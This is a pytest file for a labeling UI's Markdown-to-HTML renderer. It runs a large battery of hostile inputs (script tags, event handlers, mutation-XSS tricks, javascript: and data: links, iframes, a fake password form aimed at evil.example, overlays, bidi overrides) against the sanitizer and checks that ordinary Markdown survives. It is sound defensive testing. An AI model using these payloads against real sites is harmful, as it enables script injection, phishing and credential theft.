"""Answers as HTML: a battery of hostile texts against each of the two walls, and the Markdown that must survive."""

from __future__ import annotations

import time
from html.parser import HTMLParser
from typing import Any

import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from labeling_ui import render
from labeling_ui.render import TAGS, is_blank, visible

VOID = {"br", "hr"}
# What was rendered behind another wall must not be found again.
answer_html = render._rendered  # what is cached under one of the patches below would be met under another


class Page(HTMLParser):
    """What a browser would find in a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str | None]] = []
        self.odd: list[str] = []  # comments, declarations, and ends of what was never begun
        self.text = ""
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value) for name, value in attrs]
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag not in VOID:
            self.open.pop()

    def handle_endtag(self, tag: str) -> None:
        if self.open and self.open[-1] == tag:
            self.open.pop()
        else:
            self.odd.append(f"</{tag}>")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.odd.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.odd.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.odd.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.odd.append(f"<![{data}]>")


def checked(html: str) -> Page:
    """A page on which nothing can run, load, cover, post, be pointed at, or end what stands around it."""
    page = Page(html)
    assert set(page.tags) <= TAGS
    for tag, name, value in page.attributes:
        assert (tag, name, value) == ("span", "class", "math") or ((tag, name) == ("ol", "start") and value)
    assert not page.odd and not page.open
    return page


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    "script unclosed": "<script>alert(1)",
    "script split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with slash": "<script/x>alert(1)</script/x>",
    "script after newline": "<\nscript>alert(1)</script>",
    "script in a code fence": "```html\n</code></pre><script>alert(1)</script>\n```",
    "script as a fence's language": '```"><script>alert(1)</script>\nx\n```',
    "script in code": "`</code><script>alert(1)</script>`",
    "script in math": r"$$</span><script>alert(1)</script>$$",
    "script in a table": "|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|d|",
    "script in a heading": "# <script>alert(1)</script>",
    "event handler": "<p onclick=alert(1) onmouseover=alert(2)>x</p>",
    "event handler on an image": "<img src=x onerror=alert(1)>",
    "event handler unquoted": "<details/open/ontoggle=alert(1)>",
    "event handler with tab": '<b onmouseover\t=\t"alert(1)">x</b>',
    "autofocus": "<input autofocus onfocus=alert(1)>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe with a document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "frame set": "<frameset><frame src=javascript:alert(1)></frameset>",
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.svg">',
    "applet": "<applet code=x.class></applet>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "svg animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg use": '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "svg foreign object": "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
    "mathml": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "mathml mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "mutation by template": "<template><script>alert(1)</script></template>",
    "mutation by select": "<select><style></select><img src=x onerror=alert(1)></style>",
    "style element": "<style>*{display:none} @import '//evil.example/x.css'</style>",
    "style attribute": '<p style="background:url(//evil.example/x)">x</p>',
    "overlay": '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Log in again</div>',
    "overlay on a span": '<span class="math" style="position:fixed;inset:0">x</span>',
    "link to a style sheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "form": '<form action="https://evil.example"><input name=password type=password><button>Log in</button></form>',
    "form around": '<button form="label" formaction="//evil.example">4</button>',
    "text area": "<textarea name=x></textarea><select><option>1</select>",
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "title": "</title><title>Mine</title>",
    "end of the page": "</p></div></main></body></html><h1>Mine</h1>",
    "end of a text area": "</textarea></style></script><img src=x onerror=alert(1)>",
    "id": '<p id="answers">x</p><a name="answers"></a>',
    "id that hides a variable": '<form id=document><img name=cookie id=currentScript>',
    "class of the page": '<span class="math keys hidden">x</span><p class="answer chosen">x</p>',
    "data attributes": '<p data-testid="submit" data-action="vote" aria-hidden="true" hidden tabindex=1>x</p>',
    "image": "![x](https://evil.example/x.png)",
    "image of data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "image by reference": "![x][y]\n\n[y]: https://evil.example/x.png 'title'",
    "image with a hostile title": '![x](x.png "onerror=alert(1)")',
    "picture": '<picture><source srcset="//evil.example/x"><img src=x></picture>',
    "video": '<video src="//evil.example/x" poster="//evil.example/y" autoplay></video><audio src=x></audio>',
    "link": "[the answer](https://evil.example)",
    "link that runs": "[x](javascript:alert(1))",
    "link that runs, spelt": "[x](javascript&colon;alert&lpar;1&rpar;)",
    "link that runs, with tab": "[x](java\tscript:alert(1))",
    "link of data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "link of vbscript": "[x](vbscript:msgbox(1))",
    "link in angle brackets": "<https://evil.example> <javascript:alert(1)> <me@evil.example>",
    "link as HTML": '<a href="javascript:alert(1)" target=_blank ping="//evil.example">x</a>',
    "link by reference": "[x]\n\n[x]: javascript:alert(1)",
    "link in an image in a link": "[![x](https://evil.example/x.png)](javascript:alert(1))",
    "link that looks bare": "https://evil.example www.evil.example me@evil.example",
    "image in emphasis": "**![x](//evil.example/x.png)** *<img src=//evil.example>*",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "entities twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "entities in hex": "&#x3c;iframe src=//evil.example&#x3e;",
    "comment": "<!-- <script>alert(1)</script> -->",
    "comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
    "comment for old browsers": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing instruction": "<?xml version='1.0'?><?php system('x') ?>",
    "doctype": "<!DOCTYPE html><html><head></head><body onload=alert(1)>",
    "custom element": "<x-evil onclick=alert(1) is=script>x</x-evil>",
    "portal and dialog": "<dialog open>Log in</dialog><portal src=//evil.example></portal>",
    "marquee": "<marquee onstart=alert(1)>x</marquee><blink>x</blink>",
    "dark text": '<font color=white size=1>ignore the other answer</font>',
    "NUL in a tag": "<scr\0ipt>alert(1)</scr\0ipt>",
    "control characters": "<\x01script\x08>\x0b\x0c\x1b[2J\x7f\x85\x9b",
    "halves of pairs": "\ud800<script>\udfff",
    "direction turned": "\u202egpj.exe <\u202dscript>",
    "direction turned by entity": "&#8238;gpj.exe &#x202d;x",
    "full width": "＜script＞alert(1)＜/script＞",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
    "heading with attributes": "# x {#answers .hidden onclick=alert(1)}",
    "list start": '<ol start="1&quot; onclick=alert(1)"><li value=9 type=A>x</ol>',
    "table with attributes": '<table background="//evil.example/x"><td background=x colspan=999 onclick=x>y</table>',
}  # fmt: skip


def test_the_battery_is_large() -> None:
    assert len(HOSTILE) >= 40


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_texts_are_harmless(text: str) -> None:
    html = answer_html(text)
    checked(html)
    assert not set("\0\x01\x08\x0b\x0c\x1b\x7f\x85\x9b\u202d\u202e\ud800\udfff") & set(html)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_the_allow_list_holds_alone(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """As if the Markdown parser let all HTML through, that of links and images included."""
    from markdown_it import MarkdownIt

    parser = MarkdownIt("commonmark", {"html": True}).enable("table")
    raw = type("Raw", (), {"render": staticmethod(lambda text: text)})
    for made in (parser, raw):
        monkeypatch.setattr(render, "_markdown", lambda tables, made=made: made)
        checked(answer_html(text))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_the_parser_holds_alone(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """As if the allow-list let everything through; it alone takes a fence's language and a cell's alignment away."""
    monkeypatch.setattr(nh3, "clean", lambda html, **_: html)
    page = Page(answer_html(text))
    assert set(page.tags) <= TAGS
    assert {name for _, name, _ in page.attributes} <= {"class", "start"}
    assert not page.odd and not page.open


def test_without_the_walls_the_battery_would_get_through() -> None:
    """The checks see what they look for."""
    from markdown_it import MarkdownIt

    parser = MarkdownIt("commonmark", {"html": True}).enable(["table"])
    through = 0
    for text in HOSTILE.values():
        try:
            checked(parser.render(text))
        except AssertionError:
            through += 1
    assert through > 0.7 * len(HOSTILE)


@settings(derandomize=True, deadline=None, max_examples=300)
@given(
    st.lists(
        st.sampled_from([*sorted(HOSTILE.values()), "\n", "\n\n", "> ", "- ", "    ", "|", "`", "$$", "**", "\\("])
    )
)
def test_hostile_texts_in_any_company(parts: list[str]) -> None:
    checked(answer_html("".join(parts)))


@settings(derandomize=True, deadline=None, max_examples=300)
@given(st.text(st.characters(codec=None)))
def test_any_text_renders(text: str) -> None:
    checked(answer_html(text))


# What is harmless survives


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**bold** and *slanted*", "<p><strong>bold</strong> and <em>slanted</em></p>\n"),
        ("~~gone~~", "<p><s>gone</s></p>\n"),
        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
        ("one\n\ntwo", "<p>one</p>\n<p>two</p>\n"),
        ("# Title\n## Part", "<h3>Title</h3><h4>Part</h4>"),
        ("###### Deep", "<h6>Deep</h6>"),
        ("Title\n=====", "<h3>Title</h3>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>\n"),
        ("`x < 1`", "<p><code>x &lt; 1</code></p>\n"),
        ("```python\nif a < b:\n    pass\n```", "<pre><code>if a &lt; b:\n    pass\n</code></pre>\n"),
        ("---", "<hr>\n"),
        ("1 < 2 & 3 > 2", "<p>1 &lt; 2 &amp; 3 &gt; 2</p>\n"),
        ("<b>tags</b> are shown", "<p>&lt;b&gt;tags&lt;/b&gt; are shown</p>\n"),
        ("[a link](https://a.example)", "<p>[a link](https://a.example)</p>\n"),
        ("![an image](a.png)", "<p>![an image](a.png)</p>\n"),
        ("costs $5, not $6", "<p>costs $5, not $6</p>\n"),
        ("$$x < y$$", '<p><span class="math">$$x &lt; y$$</span></p>\n'),
        ("$$\nx_1 * y_2 * z\n$$", '<p><span class="math">$$\nx_1 * y_2 * z\n$$</span></p>\n'),
        (r"so \(a_1 * b_1 * c\) is", r'<p>so <span class="math">\(a_1 * b_1 * c\)</span> is</p>' "\n"),
        (r"\[ \frac{1}{2} \]", r'<p><span class="math">\[ \frac{1}{2} \]</span></p>' "\n"),
        (r"`\(code\)`", r"<p><code>\(code\)</code></p>" "\n"),
        (r"\(never closed", "<p>(never closed</p>\n"),
        (r"\*plain\*", "<p>*plain*</p>\n"),
        ("עברית \u2067abc\u2069 \u200fمرحبا", "<p>עברית \u2067abc\u2069 \u200fمرحبا</p>\n"),
        ("👩‍👩‍👧 é 漢字", "<p>👩‍👩‍👧 é 漢字</p>\n"),
        ("", ""),
    ],
)
def test_markdown_survives(text: str, html: str) -> None:
    assert answer_html(text) == html
    checked(html)


def test_a_table_survives() -> None:
    page = checked(answer_html("| a | b |\n|:--|--:|\n| **1** | `2` |\n| 3 | 4 |"))
    assert page.tags == [
        *("table", "thead", "tr", "th", "th", "tbody"),
        *("tr", "td", "strong", "td", "code", "tr", "td", "td"),
    ]
    assert page.text.split() == ["a", "b", "1", "2", "3", "4"]


def test_nothing_that_was_written_is_lost() -> None:
    for name, text in HOSTILE.items():
        if "alert(1)" in text and name != "script as a fence's language":  # no Markdown shows that
            assert "alert(1)" in Page(answer_html(text)).text, name


def test_math_of_great_length_is_text() -> None:
    assert "math" in answer_html("$$" + "x" * 2000 + "$$")
    assert "math" not in answer_html("$$" + "x" * 2001 + "$$")
    assert "math" in answer_html(r"\(" + "x" * 1000 + r"\)")
    assert "math" not in answer_html(r"\(" + "x" * 1001 + r"\)")
    assert "math" not in answer_html("$$$$")


# Size

FILLERS = [
    "x", "word ", "line\n", "para\n\n", "*", "**a", "*a **b ", "_", "~~", "`", "` `` ", "```\n", "[", "[[a](", "![",
    "<", "<a ", "&", "&amp;", "\\", "\\(", "\\[", "$", "$$", "$$a ", ">", "> ", "- ", "1. ", "    ", "# ", "|", "|a",
    "a|b\n", "|-", "-|-\n", "---\n", "===\n", "<!--", "\0", "\u202e", "\ud800", "é", "😀", "- a\n  ", "> - ",
    "*a_b`c[d](e)<f>", "\\\n", "a\r", "\t",
]  # fmt: skip


@pytest.mark.parametrize("filler", FILLERS, ids=repr)
def test_100_kilobytes_take_seconds_at_most(filler: str) -> None:
    """Nothing grows with the square of the text, which would take minutes; the slowest takes 2 s."""
    text = (filler * 100_000)[:100_000]
    start = time.process_time()
    html = answer_html(text)
    assert time.process_time() - start < 10
    checked(html)
    assert len(html) < 30 * len(text)


@pytest.mark.parametrize("columns", [10, 100, 300, 1000])
def test_a_table_of_empty_cells_does_not_swell(columns: int) -> None:
    """Markdown fills up short rows: without a limit, 2 kB become 650 kB, and 100 kB as many tables as fit."""
    swollen = "|" * (columns + 1) + "\n" + "|-" * columns + "|\n" + "|\n" * columns + "\n"
    text = swollen * (100_000 // len(swollen) + 1)
    start = time.process_time()
    html = answer_html(text)
    assert time.process_time() - start < 10
    assert len(html) < 30 * len(text)
    checked(html)


@pytest.mark.parametrize("opened", ["> ", "- ", "* ", "1. ", "> - ", "<div>", "**_", "[", "(", "<b><i>"])
@pytest.mark.parametrize("depth", [10, 100, 5000])
def test_deep_nesting(opened: str, depth: int) -> None:
    page = checked(answer_html(opened * depth + "core"))
    deepest = max((page.tags.count(tag) for tag in ("blockquote", "ul", "ol")), default=0)
    assert deepest <= 20


# Characters


def test_visible() -> None:
    assert visible("a\0b\x07c\x1bd\x7fe\x85f\ud800g\u202eh") == "a␀b�c�d�e�f�g�h"
    assert visible("tab\tline\r\nend") == "tab\tline\r\nend"
    assert visible("😀 \u200d \u2066 עברית") == "😀 \u200d \u2066 עברית"


@pytest.mark.parametrize(
    ("text", "blank"),
    [
        ("", True),
        (" \t\r\n", True),
        ("\u200b\u200d\ufeff\u2060", True),
        ("\u3000\u00a0\u2003", True),
        ("\0\x1b", True),
        ("\u2800\u3164\u115f", True),
        ("\u202e\u2066", True),
        (".", False),
        ("\u200bx", False),
        ("漢", False),
        ("😀", False),
    ],
)
def test_is_blank(text: str, blank: bool) -> None:
    assert is_blank(text) is blank


def test_nothing_heavy_is_loaded_before_it_is_needed() -> None:
    import subprocess
    import sys

    code = (
        "import sys, labeling_ui.render; print({'nh3', 'markdown_it', 'gradio', 'torch', 'align'} & sys.modules.keys())"
    )
    found: Any = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert found.stdout.strip() == "set()"
